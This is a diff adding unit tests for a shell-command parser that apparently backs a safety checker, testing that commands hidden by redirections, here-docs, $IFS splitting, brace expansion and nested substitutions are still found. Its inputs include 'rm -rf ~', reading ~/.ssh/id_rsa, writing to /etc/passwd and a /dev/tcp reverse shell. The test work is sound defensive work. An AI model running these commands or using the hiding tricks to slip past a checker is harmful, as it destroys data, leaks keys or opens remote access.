@@ -202,6 +202,187 @@ describe('redirections', () => {
   });
 });
 
+describe('every word is read, wherever it stands', () => {
+  it.each([
+    ['rm -rf 2>/dev/null /', 'rm -rf /', ['2>/dev/null']],
+    ['git 2>/dev/null push -f origin main', 'git push -f origin main', ['2>/dev/null']],
+    ['cat </dev/null ~/.ssh/id_rsa', 'cat ~/.ssh/id_rsa', ['</dev/null']],
+    ['>out rm -rf /', 'rm -rf /', ['>out']],
+    ['2>&1 rm -rf /', 'rm -rf /', ['2>&1']],
+    ['rm 2>/dev/null -rf >x / y', 'rm -rf / y', ['2>/dev/null', '>x']],
+    ['rm -rf <<< x / >y z', 'rm -rf / z', ['>y']],
+    ['A=1 >x B=2 rm -rf /', 'rm -rf /', ['>x']],
+    ['cat <<EOF 2>/dev/null ~/.ssh/id_rsa\nhi\nEOF', 'cat ~/.ssh/id_rsa', ['2>/dev/null']],
+    ['cat <<EOF >x y\nhi\nEOF', 'cat y', ['>x']],
+    ['exec 2>/dev/null rm -rf /', 'rm -rf /', ['2>/dev/null']],
+    ['export A=1 >f B=2', 'export A=1 B=2', ['>f']],
+    ['rm -rf 2>/dev/null "$HOME"/x', 'rm -rf ?$HOME/x', ['2>/dev/null']],
+  ])('%j reads every argument', (cmd, argv, redirects) => {
+    const p = read(cmd);
+    const seg = p.segments[p.segments.length - 1]!;
+    expect(line(seg)).toBe(argv);
+    expect(seg.redirects.map((r) => `${r.fd ?? ''}${r.op}${r.target.text}`)).toEqual(redirects);
+    expect(p.complete).toBe(true);
+  });
+
+  it('gives the words after a redirection to the last command of a list or pipeline it follows', () => {
+    expect(lines(read('rm -rf / 2>/dev/null | cat -n >x y'))).toEqual(['rm -rf /', 'cat -n y']);
+    expect(lines(read('true && git >/dev/null push -f'))).toEqual(['true', 'git push -f']);
+  });
+
+  it('reads the descriptor tree-sitter files under the redirection before (`>& x 0>&1`)', () => {
+    const seg = read('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1').segments[0]!;
+    expect(line(seg)).toBe('bash -i');
+    expect(seg.redirects.map((r) => [r.op, r.fd, r.target.text])).toEqual([['>&', null, '/dev/tcp/203.0.113.7/4444'], ['>&', 0, '1']]);
+  });
+
+  it('reads the words tree-sitter leaves out of the tree (the `-` before a here-doc)', () => {
+    expect(lines(read("python3 - <<'EOF'\nprint(1)\nEOF"))).toEqual(['python3 -']);
+    expect(lines(read('git commit -F - <<EOF\nmsg\nEOF'))).toEqual(['git commit -F -']);
+  });
+
+  it('ends a command at a newline tree-sitter runs into the next line (a line starting with `\\`)', () => {
+    expect(lines(read('cd /tmp\n\\rm -rf ~/x'))).toEqual(['cd /tmp', 'rm -rf ~/x']);
+    expect(lines(read('ls\n\\rm x\n\\rm y'))).toEqual(['ls', 'rm x', 'rm y']);
+    expect(lines(read('echo a\n\\\nrm -rf ~'))).toEqual(['echo a', 'rm -rf ~']);
+    expect(lines(read('export A=1\n\\rm x'))).toEqual(['export A=1', 'rm x']);
+    const p = read('echo a\n\\rm x > f | sh');
+    expect(lines(p)).toEqual(['echo a', 'rm x', 'sh']);
+    expect(only(p, 'rm').redirects[0]?.target.text).toBe('f');
+    expect(only(p, 'sh').pipeFrom?.[0]?.text).toBe('rm');
+    // An escaped newline still joins the lines; an escaped backslash does not.
+    expect(lines(read('echo a \\\nb'))).toEqual(['echo a b']);
+    expect(lines(read('echo a\\\\\nrm x'))).toEqual(['echo a\\', 'rm x']);
+  });
+
+  it('reads a line starting with `\\` after a redirection or a here-doc marker as its own line', () => {
+    const p = read('echo a > f\n\\rm -rf ~');
+    expect(lines(p)).toEqual(['echo a', 'rm -rf ~']);
+    expect(only(p, 'echo').redirects.map((r) => r.target.text)).toEqual(['f']);
+    expect(lines(read('bash <<EOF\n\\rm -rf ~\nEOF'))).toEqual(['rm -rf ~']);
+    expect(lines(read("cat <<'EOF' > notes.md\n\\`rm -rf ~\\`\nEOF"))).toEqual(['cat']);
+  });
+
+  it('reads the commands inside syntax it could not parse, and says so', () => {
+    const p = read('cat <<EOF; rm -rf ~\nx\nEOF');
+    expect(p.complete).toBe(false);
+    expect(lines(p)).toContain('rm -rf ~');
+  });
+
+  it('reads $"…" as the program, and parts of $IFS that are still blanks as splits', () => {
+    expect(lines(read('$"rm" -rf ~'))).toEqual(['rm -rf ~']);
+    expect(lines(read('rm${IFS%?}-rf${IFS::1}~'))).toEqual(['rm -rf ~']);
+  });
+
+  it('reads `<<<` after another redirection as a here-string (tree-sitter reads `<<` and `<`)', () => {
+    const p = read("bash 2>/dev/null <<< 'rm -rf ~/'");
+    expect(p.complete).toBe(true);
+    expect(line(only(p, 'rm'))).toBe('rm -rf ~/');
+    expect(only(p, 'rm').via).toEqual(['bash <<<']);
+  });
+
+  it('reads words and redirections mixed after a here-doc marker', () => {
+    for (const [cmd, argv, redirects] of [
+      ['cat <<EOF a >>x b\nhi\nEOF', 'cat a b', ['>>x']],
+      ['cat <<EOF a 2>&1 b\nhi\nEOF', 'cat a b', ['2>&1']],
+      ['cat <<EOF -n <x\nhi\nEOF', 'cat -n', ['<x']],
+      ['cat <<EOF a 2>/dev/null ~/.ssh/id_rsa\nhi\nEOF', 'cat a ~/.ssh/id_rsa', ['2>/dev/null']],
+    ] as const) {
+      const p = read(cmd);
+      expect(p.complete, cmd).toBe(true);
+      expect(line(p.segments[0]!)).toBe(argv);
+      expect(p.segments[0]!.redirects.map((r) => `${r.fd ?? ''}${r.op}${r.target.text}`)).toEqual(redirects);
+    }
+  });
+
+  it('gives the words after the redirection of bare assignments to the command they prefix', () => {
+    const seg = only(read('A1=x A2=y 2>>log rm -rf / 2>>err <<< z'), 'rm');
+    expect(line(seg)).toBe('rm -rf /');
+    expect(seg.assignments).toEqual(['A1=x', 'A2=y']);
+    expect(seg.redirects.map((r) => r.target.text)).toEqual(['log', 'err']);
+  });
+
+  it('splits at $IFS across the parts tree-sitter cuts a word into', () => {
+    expect(lines(read('timeout${IFS}30${IFS}rm$IFS-rf$IFS/home/dev'))).toEqual(['rm -rf /home/dev']);
+    expect(only(read('sudo${IFS}rm$IFS-rf$IFS/var'), 'rm').via).toEqual(['sudo']);
+  });
+
+  it('runs both of two backtick substitutions side by side (tree-sitter reads them as one)', () => {
+    expect(lines(read('echo `ls` `rm -rf ~`')).slice(0, 2)).toEqual(['ls', 'rm -rf ~']);
+  });
+
+  it('keeps the redirection of a statement that runs no command', () => {
+    for (const cmd of ['[[ -f x ]] > /etc/passwd', '[ -f x ] > /etc/passwd', '((i++)) > /etc/passwd', '{ x=1; } > /etc/passwd', 'while false; do :; done > /etc/passwd']) {
+      const targets = read(cmd).segments.flatMap((s) => s.redirects.map((r) => r.target.text));
+      expect(targets, cmd).toContain('/etc/passwd');
+    }
+  });
+
+  it('reports words bash refuses after the redirection of a compound command', () => {
+    for (const cmd of ['{ rm x; } >f y', '(rm x) >f y', '[[ -f x ]] >f y']) {
+      const p = read(cmd);
+      expect(p.complete, cmd).toBe(false);
+      expect(p.problems.join(' ')).toMatch(/words after the redirection/);
+    }
+  });
+});
+
+describe('substitutions hidden where tree-sitter does not parse them', () => {
+  it.each([
+    'echo ${x:-`rm -rf ~`}',
+    'echo "${x:=`rm -rf ~`}"',
+    'echo ${x/a/`rm -rf ~`}',
+    'echo ${x/`rm -rf ~`/b}',
+    'echo ${x#`rm -rf ~`}',
+    'echo ${x:+a `rm -rf ~` b}',
+    'echo ${x:-${y:-`rm -rf ~`}}',
+    'echo ${x:-$(rm -rf ~)}',
+    'echo ${a[`rm -rf ~`]}',
+    'echo ${a[$(rm -rf ~)]}',
+    'echo $(( $(rm -rf ~) ))',
+    'echo $(( `rm -rf ~` + 1 ))',
+    'a[$(rm -rf ~)]=1',
+    'a=(`rm -rf ~`)',
+    '[[ $(rm -rf ~) == x ]]',
+    '[[ x == `rm -rf ~` ]]',
+    '[ -f `rm -rf ~` ]',
+    'case x in $(rm -rf ~)) echo;; esac',
+    'case `rm -rf ~` in a) echo;; esac',
+    'for i in `rm -rf ~`; do :; done',
+    'echo hi > $(rm -rf ~)',
+    'echo hi > `rm -rf ~`',
+    'declare x=`rm -rf ~`',
+    'local a=(`rm -rf ~`)',
+    'readonly x=$(rm -rf ~)',
+    'export X="${Y:-`rm -rf ~`}"',
+    'cat <(rm -rf ~)',
+    'echo hi > >(rm -rf ~)',
+    'git commit -F - <<EOF\nfix `rm -rf ~` here\nEOF',
+    'cat <<EOF\nit\'s ${x:-`rm -rf ~`}\nEOF',
+    'echo `echo \\`rm -rf ~\\``',
+    'echo "`echo \\`rm -rf ~\\``"',
+  ])('%j runs the hidden `rm -rf ~`', (cmd) => {
+    const rm = read(cmd).segments.filter((s) => s.argv[0]?.text === 'rm');
+    expect(rm.map(line), JSON.stringify(lines(read(cmd)))).toEqual(['rm -rf ~']);
+    expect(rm[0]?.via.length).toBeGreaterThan(0);
+  });
+
+  it('runs nothing in a quoted here-doc or an escaped backtick', () => {
+    for (const cmd of ["git commit -F - <<'EOF'\nfix `rm -rf ~`\nEOF", 'git commit -F - <<\\EOF\nfix `rm -rf ~`\nEOF', 'cat <<EOF\nfix \\`rm -rf ~\\`\nEOF', "echo ${x:-'`rm -rf ~`'}", 'echo \\`rm -rf ~\\`']) {
+      expect(read(cmd).segments.filter((s) => s.argv[0]?.text === 'rm'), cmd).toEqual([]);
+    }
+  });
+
+  it('says when a backtick in a here-doc never closes', () => {
+    expect(read('cat <<EOF\na `rm -rf ~\nEOF').problems).toContain('a backtick in a here-document that is never closed');
+  });
+
+  it('keeps the outer word as written, once', () => {
+    expect(line(only(read('echo ${x:-$(rm -rf ~)}'), 'echo'))).toBe('echo ?${x:-$(rm -rf ~)}');
+    expect(line(only(read('echo $(( $(id -u) ))'), 'echo'))).toBe('echo ?$(( $(id -u) ))');
+  });
+});
+
 describe('assignments and declarations', () => {
   it('separates leading assignments from the command', () => {
     const seg = read('FOO=1 BAR="a b" rm -rf /').segments[0];
@@ -247,9 +428,14 @@ describe('words', () => {
   });
 
   it('keeps expansions as written and marks them unknown', () => {
-    expect(only(read('echo $HOME/x ${DIR}/ "a $x" $(pwd) $((1+2)) *.log a?c [ab]c {a,b} {1..3}'), 'echo').argv.slice(1)).toEqual(
-      ['$HOME/x', '${DIR}/', 'a $x', '$(pwd)', '$((1+2))', '*.log', 'a?c', '[ab]c', '{a,b}', '{1..3}'].map((text) => ({ text, known: false })),
+    expect(only(read('echo $HOME/x ${DIR}/ "a $x" $(pwd) $((1+2)) *.log a?c [ab]c {1..3} x{a,b}{1..2} ${y}{a,b}'), 'echo').argv.slice(1)).toEqual(
+      ['$HOME/x', '${DIR}/', 'a $x', '$(pwd)', '$((1+2))', '*.log', 'a?c', '[ab]c', '{1..3}', 'x{a,b}{1..2}', '${y}{a,b}'].map((text) => ({ text, known: false })),
     );
+  });
+
+  it('expands unquoted brace lists into words, as bash does before anything else', () => {
+    expect(lines(read('echo {a,b} x{1,2}y ~/{.ssh,.aws} {a,{b,c}} {} {x} "{a,b}" \\{a,b}'))).toEqual(['echo a b x1y x2y ~/.ssh ~/.aws a b c {} {x} {a,b} {a,b}']);
+    expect(lines(read('{rm,-rf,~}'))).toEqual(['rm -rf ~']);
   });
 
   it('treats quoted or escaped glob characters as plain text', () => {
